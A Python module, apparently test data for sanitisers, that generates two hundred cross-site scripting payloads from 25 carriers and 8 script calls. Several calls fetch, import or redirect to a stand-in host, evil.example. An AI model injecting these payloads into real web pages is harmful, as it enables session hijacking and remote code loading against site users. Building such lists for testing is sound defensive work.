"""Two hundred ways of writing a script in text fields."""

from __future__ import annotations

from itertools import product
from typing import Final

CALLS: Final = (
    "alert(1)",
    "window.hit=1",
    "fetch('//evil.example')",
    "document.title='hit'",
    "import('//evil.example/x.js')",
    "eval('window.hit=1')",
    "location='//evil.example'",
    "top['al'+'ert'](1)",
)
CARRIERS: Final = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<scr<script>ipt>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    '<a href="javascript:{}">here</a>',
    "[here](javascript:{})",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "{{{{{}}}}}",
    "{{% load x %}}{}",
    "${{{}}}",
    "<style>@import '//evil.example';</style>{}",
    "\u003cscript\u003e{}\u003c/script\u003e",
)
PAYLOADS: Final = [carrier.format(call) for carrier, call in product(CARRIERS, CALLS)]
PAYLOADS_BY_CALL: Final = [carrier.format(call) for call, carrier in product(CALLS, CARRIERS)]
"""The same in another order: as many in a row as there are carriers are one of each."""
